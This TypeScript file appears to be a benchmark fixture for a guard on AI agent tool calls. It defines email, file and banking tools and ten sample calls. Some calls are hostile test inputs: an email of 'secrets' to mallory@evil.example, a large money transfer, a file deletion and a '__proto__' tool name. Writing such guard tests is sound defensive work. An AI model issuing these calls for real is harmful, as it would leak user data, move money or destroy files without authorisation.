/**
 * The tools and the call mix of the sidecar bench: AgentDojo-style workspace and banking tools
 * (MCP shape), and calls that the fence allows, revises and denies for different reasons, so a
 * run exercises every step of the pipeline, not one fast path.
 */
import type { ToolSpec } from '../../src/action/types.ts';

export const IBAN = 'DE89370400440532013000';

export const BENCH_TOOLS: readonly ToolSpec[] = [
  { name: 'get_unread_emails', description: 'Returns all the unread emails in the inbox.', inputSchema: { type: 'object', properties: {} } },
  { name: 'search_files', description: 'Searches files by content.', inputSchema: { type: 'object', properties: { query: { type: 'string' } } } },
  {
    name: 'send_email',
    description: 'Sends an email with the given body to the given address.',
    inputSchema: {
      type: 'object',
      properties: { recipients: { type: 'array', items: { type: 'string' } }, subject: { type: 'string' }, body: { type: 'string' } },
      required: ['recipients'],
    },
  },
  {
    name: 'send_money',
    description: 'Sends a transaction to the recipient.',
    inputSchema: { type: 'object', properties: { recipient: { type: 'string' }, amount: { type: 'number' }, subject: { type: 'string' } } },
  },
  {
    name: 'delete_file',
    description: 'Deletes a file.',
    inputSchema: { type: 'object', properties: { file_id: { type: 'string' } } },
    annotations: { destructiveHint: true },
  },
];

/** Ten calls; a run cycles through them. */
export const BENCH_CALLS: readonly { tool: string; args: Record<string, unknown> }[] = [
  { tool: 'get_unread_emails', args: {} },
  { tool: 'search_files', args: { query: 'quarterly report' } },
  { tool: 'search_files', args: { query: 'invoice march' } },
  { tool: 'send_email', args: { recipients: ['bob@example.com'], subject: 'Summary', body: 'Here is the summary of the unread e-mails.' } },
  { tool: 'get_unread_emails', args: {} },
  { tool: 'send_money', args: { recipient: IBAN, amount: 95, subject: 'bill' } },
  { tool: 'send_email', args: { recipients: ['mallory@evil.example'], subject: 'fwd', body: 'secrets' } },
  { tool: 'send_money', args: { recipient: IBAN, amount: 950, subject: 'bill' } },
  { tool: 'delete_file', args: { file_id: '13' } },
  { tool: '__proto__', args: {} },
];
